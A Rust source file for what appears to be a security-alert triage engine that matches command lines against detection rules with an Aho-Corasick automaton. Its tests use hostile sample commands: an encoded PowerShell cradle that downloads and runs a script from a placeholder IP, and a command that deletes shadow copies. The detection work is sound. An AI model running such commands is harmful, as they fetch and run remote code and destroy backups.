//! The rules and the automaton over their literals.

use super::Observation;
use super::assessment::{Assessment, combine, sort};
use super::platform::PlatformSet;
use super::rule::{Condition, Rule};
use super::text::{Text, texts};
use super::vendor_context::vendor_evidence;
use crate::verdict::Evidence;
use daachorse::DoubleArrayAhoCorasick;
use serde::Deserialize;
use std::sync::OnceLock;

/// What `build.rs` wrote, see there.
const TABLE: &[u8] = include_bytes!(concat!(env!("OUT_DIR"), "/rules.json"));
const AUTOMATON: &[u8] = include_bytes!(concat!(env!("OUT_DIR"), "/literals.daachorse"));

/// At most this many characters of a match are shown.
const SHOWN: usize = 200;

/// A set of rules, ready to evaluate.
pub struct Ruleset {
    table: Table,
    automaton: DoubleArrayAhoCorasick<u32>,
}

#[derive(Deserialize)]
struct Table {
    version: String,
    /// By number.
    literals: Vec<String>,
    /// The rules that a literal makes worth a look, by literal.
    candidates: Vec<Vec<u32>>,
    /// By id.
    rules: Vec<Rule>,
}

impl Ruleset {
    /// The rules in this build. The first call reads the table (about a millisecond); later ones are free.
    #[must_use]
    pub fn built_in() -> &'static Self {
        static BUILT_IN: OnceLock<Ruleset> = OnceLock::new();
        BUILT_IN.get_or_init(|| {
            let table = serde_json::from_slice(TABLE).expect("build.rs wrote this table");
            let (automaton, _) = DoubleArrayAhoCorasick::deserialize(AUTOMATON).expect("build.rs wrote this automaton");
            Self { table, automaton }
        })
    }

    /// 12 hexadecimal digits over everything in the rules that can change a result.
    #[must_use]
    pub fn version(&self) -> &str {
        &self.table.version
    }

    /// The rules, by id.
    #[must_use]
    pub fn rules(&self) -> &[Rule] {
        &self.table.rules
    }

    /// What the rules say about `observation`. The same observation and ruleset give the same assessment, byte for byte.
    #[must_use]
    pub fn evaluate(&self, observation: &Observation<'_>) -> Assessment {
        let texts = texts(observation);
        let platforms = PlatformSet::infer(observation);
        let (found, candidates) = self.scan(&texts);

        let mut evidence: Vec<Evidence> = vendor_evidence(observation).collect();
        let mut staged = Vec::new();
        let mut techniques = Vec::new();
        for rule in candidates.iter().map(|number| &self.table.rules[*number as usize]) {
            if !platforms.overlaps(rule.platform_set()) {
                continue;
            }
            let Some(matched) = self.matched(rule, &found, &texts) else { continue };
            if rule.stage {
                staged.push(matched);
            } else {
                evidence.push(matched);
                techniques.extend(rule.techniques.iter().cloned());
            }
        }
        techniques.sort();
        techniques.dedup();
        let confidence = combine(&evidence);
        sort(&mut evidence);
        sort(&mut staged);
        Assessment { confidence, evidence, techniques, staged }
    }

    /// The ids of all rules that match, counted and staged, without the bound on evidence.
    #[cfg(test)]
    pub(super) fn all_matches(&self, observation: &Observation<'_>) -> (Vec<String>, Vec<String>) {
        let texts = texts(observation);
        let platforms = PlatformSet::infer(observation);
        let (found, candidates) = self.scan(&texts);
        let matched = candidates
            .iter()
            .map(|number| &self.table.rules[*number as usize])
            .filter(|rule| platforms.overlaps(rule.platform_set()) && self.matched(rule, &found, &texts).is_some());
        let (staged, counted): (Vec<&Rule>, Vec<&Rule>) = matched.partition(|rule| rule.stage);
        let ids = |rules: Vec<&Rule>| rules.into_iter().map(|rule| rule.id.clone()).collect();
        (ids(counted), ids(staged))
    }

    /// In which fields each literal occurs, and the rules worth a closer look, in order.
    fn scan(&self, texts: &[Text]) -> (Vec<u8>, Vec<u32>) {
        let mut found = vec![0_u8; self.table.literals.len()];
        let mut candidates = Vec::new();
        for text in texts {
            for hit in self.automaton.find_overlapping_iter(&text.content) {
                let literal = hit.value() as usize;
                if found[literal] == 0 {
                    candidates.extend_from_slice(&self.table.candidates[literal]);
                }
                found[literal] |= text.field.bit();
            }
        }
        candidates.sort_unstable();
        candidates.dedup();
        (found, candidates)
    }

    /// The evidence if every condition of `rule` holds; it shows the first condition's match.
    fn matched(&self, rule: &Rule, found: &[u8], texts: &[Text]) -> Option<Evidence> {
        let mut shown = None;
        for condition in &rule.conditions {
            let place = self.holds(condition, found, texts)?;
            shown.get_or_insert(place);
        }
        let (text, start, end) = shown?;
        Some(Evidence {
            rule_id: rule.id.clone(),
            title: rule.title.clone(),
            family: rule.family.clone(),
            weight: rule.weight,
            field: text.label.to_owned(),
            matched: excerpt(&text.content, start, end),
        })
    }

    /// Where `condition` holds: the text and the bytes of it that matched.
    fn holds<'t>(&self, condition: &Condition, found: &[u8], texts: &'t [Text]) -> Option<(&'t Text, usize, usize)> {
        condition.fields.iter().filter(|field| condition.literals_hold(**field, found)).find_map(|field| {
            texts.iter().filter(|text| text.field == *field).find_map(|text| match condition.regex() {
                Some(regex) => {
                    let hit = regex.find(text.content.as_bytes())?;
                    Some((text, hit.start(), hit.end()))
                }
                None => condition.shown().find_map(|literal| {
                    let literal = &self.table.literals[literal as usize];
                    text.content.find(literal).map(|at| (text, at, at + literal.len()))
                }),
            })
        })
    }
}

/// The match with some of what follows it, at most [`SHOWN`] characters.
fn excerpt(text: &str, start: usize, end: usize) -> String {
    let start = text.floor_char_boundary(start.min(text.len()));
    let end = text.ceil_char_boundary((end + 40).min(text.len()));
    text[start..end].trim_matches('|').chars().take(SHOWN).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::alert::VendorSeverity;
    use crate::heuristics::{Band, band};
    use proptest::prelude::*;
    use std::time::Instant;

    fn cmdline(text: &str) -> Observation<'_> {
        Observation { process_cmdline: Some(text), ..Observation::EMPTY }
    }

    #[test]
    fn a_vendors_word_alone_is_never_high() {
        for severity in [VendorSeverity::Critical, VendorSeverity::High] {
            let assessment = Ruleset::built_in().evaluate(&Observation {
                vendor_severity: severity,
                tactic: Some("Credential Access"),
                technique: Some("T1003"),
                ..Observation::EMPTY
            });
            assert_eq!(band(assessment.confidence), Band::Ambiguous);
        }
    }

    #[test]
    fn text_hidden_in_an_encoded_command_is_judged() {
        use base64::Engine as _;
        let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')";
        let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let command = format!("powershell -nop -w 1 -e {}", base64::prelude::BASE64_STANDARD.encode(bytes));
        let assessment = Ruleset::built_in().evaluate(&cmdline(&command));
        assert!(matches!(band(assessment.confidence), Band::Accept(_)), "{assessment:#?}");
        assert!(assessment.evidence.iter().any(|item| item.field == "decoded"), "{assessment:#?}");
    }

    #[test]
    fn a_rule_of_another_platform_does_not_match() {
        let mut observation = cmdline("vssadmin delete shadows /all /quiet");
        assert!(!Ruleset::built_in().evaluate(&observation).evidence.is_empty());
        observation.platform = Some(crate::alert::Platform::Linux);
        assert!(Ruleset::built_in().evaluate(&observation).evidence.is_empty());
    }

    #[test]
    fn a_rule_on_trial_is_recorded_and_does_not_count() {
        let observation = cmdline(r"D:\t.exe -decode D:\a.txt D:\a.dll");
        let assessment = Ruleset::built_in().evaluate(&observation);
        assert_eq!(assessment.confidence, crate::verdict::Confidence::ZERO);
        assert!(assessment.evidence.is_empty() && assessment.techniques.is_empty());
        assert_eq!(assessment.staged.len(), 1);
    }

    #[test]
    fn evidence_is_bounded_and_strongest_first() {
        let everything: String = Ruleset::built_in().table.literals.join(" ");
        let assessment = Ruleset::built_in().evaluate(&cmdline(&everything));
        assert!(assessment.evidence.len() > 5);
        assert!(assessment.evidence.len() <= super::super::MAX_EVIDENCE);
        assert!(assessment.evidence.is_sorted_by(|a, b| a.weight >= b.weight));
        assert!(assessment.evidence.iter().all(|item| item.matched.chars().count() <= SHOWN));
    }

    #[test]
    fn the_version_is_twelve_hexadecimal_digits() {
        let version = Ruleset::built_in().version();
        assert!(version.len() == 12 && version.bytes().all(|b| b.is_ascii_hexdigit()), "{version}");
    }

    proptest! {
        #[test]
        fn any_text_is_judged_and_judged_the_same_twice(text in ".{0,400}", parent in ".{0,80}", path in ".{0,80}") {
            let observation = Observation {
                process_path: Some(&path),
                process_cmdline: Some(&text),
                parent_process: Some(&parent),
                parent_cmdline: Some(&text),
                username: Some(&parent),
                tactic: Some(&parent),
                ..Observation::EMPTY
            };
            let first = Ruleset::built_in().evaluate(&observation);
            let again = Ruleset::built_in().evaluate(&observation);
            prop_assert_eq!(serde_json::to_vec(&first.evidence).unwrap(), serde_json::to_vec(&again.evidence).unwrap());
            prop_assert_eq!(first, again);
        }

        #[test]
        fn pieces_of_rules_in_any_order_are_judged(picks in proptest::collection::vec((any::<prop::sample::Index>(), ".{0,4}"), 0..12)) {
            let literals = &Ruleset::built_in().table.literals;
            let text: String = picks.iter().map(|(pick, glue)| format!("{}{glue}", literals[pick.index(literals.len())])).collect();
            let observation = cmdline(&text);
            let without = Ruleset::built_in().evaluate(&observation);
            let with = Ruleset::built_in().evaluate(&Observation { vendor_severity: VendorSeverity::Medium, ..observation });
            prop_assert!(with.confidence >= without.confidence);
        }
    }

    #[test]
    #[ignore = "a measurement: run it with --release --nocapture"]
    fn how_fast() {
        let started = Instant::now();
        let rules = Ruleset::built_in();
        println!("start {:?}, automaton {} bytes of heap", started.elapsed(), rules.automaton.heap_bytes());
        let lines = super::super::rule_tests::BENIGN;
        for _ in 0..3 {
            let started = Instant::now();
            for _ in 0..200 {
                for line in lines {
                    std::hint::black_box(rules.evaluate(&cmdline(line)));
                }
            }
            println!("{:.2} us per event", started.elapsed().as_secs_f64() * 1e6 / (200 * lines.len()) as f64);
        }
    }
}
